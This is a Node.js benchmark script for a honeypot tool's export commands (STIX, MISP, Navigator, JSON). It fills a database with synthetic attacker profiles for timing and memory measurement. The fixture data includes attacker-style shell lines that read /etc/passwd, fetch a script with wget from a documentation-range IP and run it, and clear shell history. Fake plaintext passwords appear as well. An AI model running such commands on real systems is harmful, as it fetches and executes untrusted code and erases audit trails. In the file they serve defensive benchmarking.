#!/usr/bin/env node
/**
 * Export benchmark: `decnet export stix|misp|navigator|json` of a database of
 * many attackers (100,000 by default), each a process of its own whose wall
 * time and peak RSS (getrusage at exit, all threads) are measured, writing
 * to a file. The same-run baseline is `decnet attackers --json` on the same
 * database: `--limit 50` (what an operator lists) and `--limit` every
 * attacker (a read that holds the whole result set, which the exports must
 * not). With two sizes (`--attackers 10000,100000`) the table shows whether
 * an export's memory grows with the attackers.
 *
 * The profiles are written straight into the profiler's tables, in its
 * shapes (attackers, command batches, credentials, services, artifacts,
 * ATT&CK tags from the shipped catalog): folding millions of log lines
 * through the profiler first would take longer than the exports.
 *
 *   npm run build && node --import tsx bench/export.js [--attackers 100000] [--formats stix,misp,navigator,json] [--json FILE] [--keep DIR]
 *
 * --keep DIR keeps the databases in DIR (export-N.sqlite) and reuses one already there.
 */
import {spawn} from 'node:child_process'
import {createHash} from 'node:crypto'
import {existsSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync} from 'node:fs'
import {tmpdir} from 'node:os'
import {dirname, join} from 'node:path'
import {fileURLToPath} from 'node:url'
import {parseArgs} from 'node:util'

import {migrateToLatest, openDatabase} from '../dist/db/index.js'
import {shippedCatalogData} from '../test/helpers/stix-bundle.js'
import {describeMachine, loadAverage, machineHeader} from './lib/machine.js'
import {markdownTable} from './lib/markdown-table.js'

const ROOT = dirname(dirname(fileURLToPath(import.meta.url)))
const RUN = join(ROOT, 'bin', 'run.js')
const RSS_HOOK = join(ROOT, 'bench/lib/max-rss-at-exit.mjs')

const {values} = parseArgs({
  options: {
    attackers: {default: '100000', type: 'string'},
    formats: {default: 'stix,misp,navigator,json', type: 'string'},
    json: {type: 'string'},
    keep: {type: 'string'},
  },
})
const sizes = values.attackers.split(',').map((text) => positiveInteger(text, '--attackers'))
const formats = values.formats.split(',').map((f) => f.trim())
const work = mkdtempSync(join(tmpdir(), 'decnet-bench-export-'))
process.on('exit', () => rmSync(work, {force: true, recursive: true}))

const machine = describeMachine()
const techniques = shippedCatalogData().techniques.filter((t) => !t.revoked && t.tactics.length > 0 && t.platforms.includes('Linux'))
const DECKIES = ['decky-01', 'decky-02', 'decky-03', 'decky-04']
const SERVICES = ['ssh', 'telnet', 'http', 'ftp']
const COMMANDS = ['uname -a', 'cat /etc/passwd', 'wget http://198.51.100.9/x.sh -O /tmp/x.sh', 'chmod +x /tmp/x.sh && /tmp/x.sh', 'history -c']

const results = []
for (const size of sizes) {
  const file = join(values.keep ?? work, `export-${size}.sqlite`)
  const url = `sqlite:${file}`
  if (values.keep === undefined || !existsSync(file)) console.error(`filled ${size} attackers in ${(await fill(url, size)).toFixed(1)} s`)
  results.push({size, process: 'attackers --json --limit 50 (baseline)', ...(await measure(['attackers', '--json', '--limit', '50', '--db', url], 'stdout'))})
  results.push({size, process: `attackers --json --limit ${size} (baseline: all in memory)`, ...(await measure(['attackers', '--json', '--limit', String(size), '--db', url], 'stdout'))})
  for (const format of formats) results.push({size, process: `export ${format}`, ...(await measure(['export', format, '--db', url, '--output', join(work, `out.${format}`)], join(work, `out.${format}`)))})
}

report()
if (values.json) writeFileSync(values.json, `${JSON.stringify({machine, results}, null, 2)}\n`)

/** Writes `count` attackers' profiles into a fresh database; returns the seconds it took. */
async function fill(url, count) {
  const started = performance.now()
  const db = await openDatabase(url)
  try {
    await migrateToLatest(db)
    const rows = {artifacts: [], attackers: [], batches: [], credentials: [], services: [], tags: []}
    let logId = 0
    const flush = async (force) => {
      for (const [table, key, perStatement] of [['attackers', 'attackers', 2000], ['attacker_command_batches', 'batches', 4000], ['credentials', 'credentials', 2000], ['attacker_services', 'services', 6000], ['attacker_artifacts', 'artifacts', 3000], ['ttp_tags', 'tags', 2000]]) {
        if (!force && rows[key].length < perStatement) continue
        if (rows[key].length > 0) await db.insertInto(table).values(rows[key]).execute()
        rows[key] = []
      }
    }

    for (let i = 0; i < count; i++) {
      const ip = `10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}`
      const base = Date.UTC(2026, 10, 1) + i * 1000
      const at = (seconds) => new Date(base + seconds * 1000).toISOString()
      const services = [SERVICES[i % 4], SERVICES[(i + 1) % 4]]
      const deckies = [DECKIES[i % 4]]
      const firstLog = logId + 1
      const commands = COMMANDS.slice(0, 1 + (i % COMMANDS.length)).map((command, n) => [++logId, at(10 + n), deckies[0], services[0], command])
      rows.attackers.push({
        auth_attempts: 3, deckies: JSON.stringify(deckies), event_count: 10 + (i % 50), first_contacts: JSON.stringify({deckies: [[at(0), firstLog]], services: services.map((_, n) => [at(n), firstLog])}),
        first_seen: at(0), ip, is_traversal: 0, last_log_id: logId + 5, last_seen: at(600), services: JSON.stringify(services), traversal_path: null,
      })
      rows.batches.push({commands: JSON.stringify(commands), first_log_id: commands[0][0], ip, last_log_id: commands.at(-1)[0]})
      for (const [n, user] of ['root', 'admin'].entries()) {
        const secret = Buffer.from(`password${i % 1000}-${n}`)
        rows.credentials.push({
          attacker_ip: ip, attempts: 1 + n, decky: deckies[0], domain: null, failures: 1 + n, first_log_id: logId + 1, first_seen: at(1), last_log_id: logId + 2, last_seen: at(2),
          principal: user, secret_b64: secret.toString('base64'), secret_bytes: secret.length, secret_kind: 'plaintext', secret_sha256: createHash('sha256').update(secret).digest('hex'), service: 'ssh', successes: 0,
        })
      }

      for (const service of services) rows.services.push({first_log_id: firstLog, ip, kind: service === 'ssh' ? 'interaction' : 'scan', service})
      if (i % 10 === 0) {
        rows.artifacts.push({decky: deckies[0], details: JSON.stringify({attribution: 'pid-chain', path: '/tmp/x.sh', sha256: createHash('sha256').update(ip).digest('hex'), size: 4096, storedAs: `${i}.bin`, writer: {comm: 'wget', pid: 4242, uid: 0}}), ip, kind: 'file', log_id: ++logId, service: 'ssh', timestamp: at(20)})
      }

      for (let n = 0; n < 3; n++) {
        const technique = techniques[(i * 7 + n * 13) % techniques.length]
        const [parent] = technique.id.split('.')
        rows.tags.push({
          attack_version: '18.1', attacker_ip: ip, confidence: 0.8, evidence: 'x', id: `${String(firstLog + n).padStart(12, '0')}${createHash('sha1').update(`${ip}${n}`).digest('hex').slice(0, 20)}`,
          log_id: firstLog + n, rule_id: `bench-${n}`, rule_version: 1, sub_technique_id: technique.id.includes('.') ? technique.id : null, tactic: technique.tactics[0], technique_id: parent, timestamp: at(30 + n),
        })
      }

      logId += 5
      await flush(false)
    }

    await flush(true)
  } finally {
    await db.destroy()
  }

  return (performance.now() - started) / 1000
}

/** Runs `decnet ...args` with the RSS hook; resolves to its wall time (s), peak RSS (MiB) and the size of what it wrote (MiB). */
async function measure(args, output) {
  const rssFile = join(work, 'rss')
  const started = performance.now()
  const child = spawn(process.execPath, ['--import', RSS_HOOK, RUN, ...args], {env: {...process.env, DECNET_BENCH_RSS_FILE: rssFile, DECNET_DATA_DIR: work}, stdio: ['ignore', 'pipe', 'inherit']})
  let bytes = 0
  child.stdout.on('data', (chunk) => {
    bytes += chunk.length
  })
  const code = await new Promise((resolve) => child.on('exit', resolve))
  const seconds = (performance.now() - started) / 1000
  if (code !== 0) throw new Error(`decnet ${args.join(' ')} exited ${code}`)
  const written = output === 'stdout' ? bytes : statSync(output).size
  return {outputMiB: written / 2 ** 20, rssMiB: Number(readFileSync(rssFile, 'utf8')) / 1024, seconds}
}

function report() {
  console.log(machineHeader(machine).join('\n'))
  console.log(`- load average at the end: ${loadAverage()}\n`)
  const rows = results.map((r) => [r.size.toLocaleString('en-US'), r.process, r.seconds.toFixed(1), (r.size / r.seconds).toFixed(0), r.rssMiB.toFixed(0), r.outputMiB.toFixed(1)])
  console.log(markdownTable(['attackers', 'process', 'wall s', 'attackers/s', 'peak RSS MiB', 'output MiB'], rows, ['r', 'l', 'r', 'r', 'r', 'r']))
}

function positiveInteger(text, name) {
  const value = Number(text)
  if (!Number.isInteger(value) || value <= 0) throw new Error(`Expected ${name} to be a positive integer, got ${text}`)
  return value
}
